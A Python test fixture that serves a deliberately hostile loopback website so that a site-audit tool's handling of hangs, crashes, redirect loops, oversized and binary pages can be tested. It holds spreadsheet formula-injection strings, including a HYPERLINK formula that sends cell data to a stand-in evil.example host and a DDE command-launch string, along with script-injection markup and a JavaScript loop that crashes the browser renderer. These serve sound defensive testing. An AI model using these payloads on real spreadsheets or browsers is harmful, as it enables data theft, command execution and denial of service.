"""A hostile staging site on loopback: each fault on its own URL, linked from the home page.

``python -m tests.faultsite`` serves it until Ctrl-C (prints the URL). ``FAULTS`` says what each URL does and
what the audit must record for it; ``HEALTHY`` are the pages that must be audited normally.
"""

from __future__ import annotations

import html
import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

HEALTHY = ["/", "/ok/about.html", "/ok/contact.html", "/slow", "/malformed", "/alert", "/hostile"]
MANY_LINKS = "/links5000"  # healthy too: a page with 5,000 links
# fault URL -> a regular expression the page's recorded error must match
FAULTS = {
    "/hang": r"(?i)timeout|took longer",
    "/error500": r"HTTP 500",
    "/loop": r"(?i)redirect",
    "/huge": r"(?i)too large",
    "/binary": r"(?i)binary",
    "/spin": r"(?i)timeout|took longer|unresponsive",
    "/crash": r"(?i)crash",
    "/download.zip": r"(?i)download",
    "/file.pdf": r"(?i)not an HTML page",
}
CALENDAR = "/calendar/2026/11"
HUGE_BYTES = 20 * 1024 * 1024
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/","click")<script>alert(1)</script>'
HOSTILE_LINK_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    "\tTabbed =1+1",
]
SECRET = "s3cr3t-pa55"


def _page(title: str, body: str, head: str = "") -> bytes:
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{title}</title>{head}</head>'
        f"<body><main><h1>{title}</h1>{body}</main></body></html>"
    ).encode()


def _home(origin: str) -> bytes:
    links = [*HEALTHY[1:], MANY_LINKS, *FAULTS, CALENDAR]
    items = "".join(f'<li><a href="{u}">{u}</a></li>' for u in links)
    host = urlsplit(origin).netloc
    creds = f'<li><a href="http://admin:{SECRET}@{host}/ok/secret-link.html?token={SECRET}">login</a></li>'
    return _page("Fault site", f"<ul>{items}{creds}</ul>")


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"  # one request per connection: a hung handler never holds a reused socket
    server: FaultServer

    def log_message(self, *args: object) -> None:
        pass

    def _send(self, status: int, body: bytes, ctype: str = "text/html; charset=utf-8", **headers: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in headers.items():
            self.send_header(k.replace("_", "-"), v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_HEAD(self) -> None:
        self.do_GET()

    def do_GET(self) -> None:  # noqa: C901 - one branch per fault is the point
        path = urlsplit(self.path).path
        self.server.hits.append(path)
        origin = f"http://{self.headers.get('Host', '')}"
        if path in ("/", "/index.html"):
            self._send(200, _home(origin))
        elif path.startswith("/ok/"):
            self._send(200, _page(f"OK {path}", '<p>A healthy page. <a href="/">Home</a></p>'))
        elif path == "/slow":
            time.sleep(1.5)
            self._send(200, _page("Slow but fine", "<p>Took a while.</p>"))
        elif path == "/hang":
            self.server.hung.wait(120)  # never answers within any sane timeout; released at shutdown
        elif path == "/error500":
            self._send(500, b"<html><body>PHP Fatal error: Uncaught Error in /var/www/index.php:3</body></html>")
        elif path == "/loop":
            self._send(302, b"", Location="/loop2")
        elif path == "/loop2":
            self._send(302, b"", Location="/loop")
        elif path == "/huge":
            self._send(200, self.server.huge_page())
        elif path == "/binary":
            self._send(200, bytes(range(256)) * 256)  # 64 KB of binary, served as a web page
        elif path == "/malformed":
            self._send(200, b"<html><head><title>Malformed</title><body><p><b><i>unclosed <div><table><tr><td>x</p>")
        elif path == "/alert":
            self._send(200, _page("Alert on load", "<p>x</p>", "<script>alert('hello'); confirm('sure?')</script>"))
        elif path == "/spin":
            self._send(200, _page("Spins forever", "<p>x</p>", "<script>for(;;){}</script>"))
        elif path == "/crash":
            # Exhausts the renderer's JavaScript heap: the renderer process dies ("Target crashed") in Chromium.
            grow = "<script>const a=[];for(;;){a.push(new Array(1e6).fill(Math.random()))}</script>"
            self._send(200, _page("Crashes the renderer", "<p>x</p>", grow))
        elif path == "/download.zip":
            self._send(200, b"PK\x03\x04" + b"\0" * 4096, "application/zip", Content_Disposition="attachment")
        elif path == "/file.pdf":
            self._send(200, b"%PDF-1.4\n%%EOF\n", "application/pdf")
        elif path == "/links5000":
            links = "".join(f'<a href="/many/{i}">link {i}</a> ' for i in range(5000))
            self._send(200, _page("Five thousand links", f"<p>{links}</p>"))
        elif path.startswith("/many/"):
            self._send(200, _page(f"Many {path}", "<p>one of many</p>"))
        elif path == "/hostile":
            links = "".join(f'<a href="/ok/h{i}.html">{html.escape(t)}</a> ' for i, t in enumerate(HOSTILE_LINK_TEXTS))
            body = f'<p>{links}</p><img src="x.png" alt="=1+1"><a href="/ok/empty.html"></a>'
            self._send(200, _page(html.escape(HOSTILE_TITLE), body))
        elif m := re.fullmatch(r"/calendar/(\d+)/(\d+)", path):
            year, month = int(m[1]), int(m[2])
            nxt = (year + month // 12, month % 12 + 1)
            self._send(200, _page(f"Calendar {year}-{month:02d}", f'<a href="/calendar/{nxt[0]}/{nxt[1]}">next</a>'))
        else:
            self._send(404, _page("Not found", "<p>no such page</p>"))


class FaultServer(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.hits: list[str] = []
        self.hung = threading.Event()
        self._huge: bytes | None = None

    def handle_error(self, request: object, client_address: object) -> None:
        pass  # browsers abandon the hung, huge and crashing pages mid-response: that is the point

    def huge_page(self) -> bytes:
        if self._huge is None:
            para = b"<p>" + b"Lorem ipsum dolor sit amet. " * 36 + b"</p>\n"
            head = b'<!doctype html><html lang="en"><head><title>Huge</title></head><body>'
            self._huge = head + para * (HUGE_BYTES // len(para) + 1) + b"</body></html>"
        return self._huge


@contextmanager
def serve_faults() -> Iterator[str]:
    server = FaultServer()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.hung.set()
        server.shutdown()
        server.server_close()


if __name__ == "__main__":
    with serve_faults() as url:
        print(url, flush=True)
        try:
            threading.Event().wait()
        except KeyboardInterrupt:
            pass
